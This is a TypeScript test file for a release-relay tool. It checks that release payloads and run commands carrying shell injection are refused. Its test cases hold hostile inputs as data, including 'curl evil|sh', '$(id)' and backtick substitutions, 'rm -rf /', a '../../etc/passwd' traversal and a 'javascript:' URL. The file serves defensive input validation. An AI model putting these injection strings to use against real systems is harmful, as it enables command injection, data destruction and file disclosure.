import { describe, expect, it } from 'vitest';
import { changeDetails } from '../../src/bump/bump.js';
import { parseRunCommand } from '../../src/bump/command.js';
import { WheelrelayError } from '../../src/errors.js';
import {
  readReleasePayload,
  releaseFromSpec,
  releasePayload,
} from '../../src/github/release-payload.js';

const SHA = 'a'.repeat(64);
const good = {
  name: 'relay_alpha',
  version: '1.4.0',
  'index-url': 'https://cache.example/ci/cache/+simple/',
  files: [{ filename: 'relay_alpha-1.4.0-py3-none-any.whl', sha256: SHA }],
  'source-repo': 'acme/relay-alpha',
  tag: 'v1.4.0',
  sha: 'c0ffee'.padEnd(40, '0'),
};

describe('the release payload', () => {
  it('round-trips what the publisher writes', () => {
    const sent = releasePayload({
      name: 'relay_alpha',
      version: '1.4.0',
      indexUrl: good['index-url'],
      projectUrl: 'https://cache.example/ci/cache/+simple/relay-alpha/',
      files: good.files,
      sourceRepo: 'acme/relay-alpha',
      tag: 'v1.4.0',
      sha: good.sha,
    });
    expect(Object.keys(sent).length).toBeLessThanOrEqual(10);
    expect(readReleasePayload(JSON.parse(JSON.stringify(sent)))).toEqual(sent);
  });

  const refused: Array<[string, Record<string, unknown>, RegExp]> = [
    ['a name that reads as an option', { name: '--index-url' }, /`name` is '--index-url'/],
    ['shell syntax in the name', { name: 'x; curl evil|sh' }, /`name`/],
    ['shell syntax in the version', { version: '1.0$(id)' }, /`version` is '1\.0\$\(id\)'/],
    ['a version that is not PEP 440', { version: 'latest' }, /not a version \(PEP 440\)/],
    ['a newline in the version', { version: '1.0\nrm -rf /' }, /`version` is '1\.0\\x0arm/],
    [
      'a hash that is not sha256 hex',
      { files: [{ filename: 'a-1.0-py3-none-any.whl', sha256: 'ABC' }] },
      /files\[0\]\.sha256/,
    ],
    [
      'a file name with a path',
      { files: [{ filename: '../../etc/passwd', sha256: SHA }] },
      /files\[0\]\.filename/,
    ],
    [
      'credentials in the index URL',
      { 'index-url': 'https://u:hunter2@cache.example/' },
      /carries credentials/,
    ],
    ['a javascript: URL', { 'index-url': 'javascript:alert(1)' }, /scheme javascript:/],
    ['a tag with shell syntax', { tag: 'v1 && id' }, /`tag`/],
    ['a non-object payload', [] as unknown as Record<string, unknown>, /not a JSON object/],
  ];
  for (const [what, change, message] of refused) {
    it(`refuses ${what}, saying which field`, () => {
      const raw = Array.isArray(change) ? change : { ...good, ...change };
      let err: unknown;
      try {
        readReleasePayload(raw);
      } catch (e) {
        err = e;
      }
      expect(err).toBeInstanceOf(WheelrelayError);
      expect((err as Error).message).toMatch(message);
      expect((err as Error).message).not.toContain('hunter2');
    });
  }

  it('reads a manual `name==version`, refusing anything else', () => {
    expect(releaseFromSpec(' relay-alpha == 1.4.0 ')).toEqual({
      name: 'relay-alpha',
      version: '1.4.0',
      files: [],
    });
    expect(() => releaseFromSpec('relay-alpha>=1.4')).toThrow(/not name==version/);
    expect(() => releaseFromSpec('--index-url==1.0')).toThrow(/`name`/);
  });
});

describe('the run command', () => {
  it('splits a command line into a program and its arguments, with quotes as a shell reads them', () => {
    expect(parseRunCommand('make compile-requirements')).toEqual(['make', 'compile-requirements']);
    expect(parseRunCommand(`pip-compile --output-file "requirements/a b.txt" 'x.in'`)).toEqual([
      'pip-compile',
      '--output-file',
      'requirements/a b.txt',
      'x.in',
    ]);
    // An explicit shell gets its script as one argument, `$` and `&&` included.
    expect(parseRunCommand(`bash -ec 'make compile && echo "$WHEELRELAY_VERSION"'`)).toEqual([
      'bash',
      '-ec',
      'make compile && echo "$WHEELRELAY_VERSION"',
    ]);
  });

  const refused: Array<[string, RegExp]> = [
    ['make a | tee log', /operator '\|'/],
    ['make a; rm -rf /', /operator ';'/],
    ['make a && make b', /operator '&&'/],
    ['make a > out.txt', /operator '>'/],
    ['echo $(id)', /\$` expansion/],
    ['echo "$(id)"', /\$` expansion/],
    ['pip-compile --upgrade-package relay-alpha==$WHEELRELAY_VERSION', /\$` expansion/],
    ['echo `id`', /backtick/],
    ['echo "it\'s `id`"', /backtick/],
    ['pip-compile requirements/*.in', /glob/],
    ['CUSTOM_COMPILE_COMMAND=make make compile', /variable assignment/],
    ['   ', /is empty/],
  ];
  for (const [text, message] of refused) {
    it(`refuses ${JSON.stringify(text)} with a hint to use a shell explicitly`, () => {
      let err: unknown;
      try {
        parseRunCommand(text);
      } catch (e) {
        err = e;
      }
      expect(err).toBeInstanceOf(WheelrelayError);
      expect((err as Error).message).toMatch(message);
      if (text.trim()) expect((err as WheelrelayError).hint).toContain("bash -ec '");
    });
  }
});

describe('the pull request account of a checkout bump', () => {
  it('shows the pin lines and counts what the command changed in each other file', () => {
    const pin = {
      path: 'requirements/github.in',
      before: 'relay-alpha==0.3.0\n',
      after: 'relay-alpha==0.4.0\n',
      changes: [
        {
          line: 1,
          before: 'relay-alpha==0.3.0\n',
          after: 'relay-alpha==0.4.0\n',
          kind: 'index-pin' as const,
        },
      ],
    };
    const txt = {
      path: 'requirements/base.txt',
      before: 'a==1\nrelay-alpha==0.3.0\n',
      after: 'a==1\nrelay-alpha==0.4.0\nrelay-beta==1.0\n',
      changes: [],
    };
    const text = changeDetails([pin], [txt, pin], ['make', 'compile']);
    expect(text).toContain('requirements/github.in:1\n- relay-alpha==0.3.0\n+ relay-alpha==0.4.0');
    expect(text).toContain('#### Regenerated by `make compile`');
    expect(text).toContain('| `requirements/base.txt` | 2 | 1 |');
    expect(text).not.toContain('| `requirements/github.in`');
  });
});
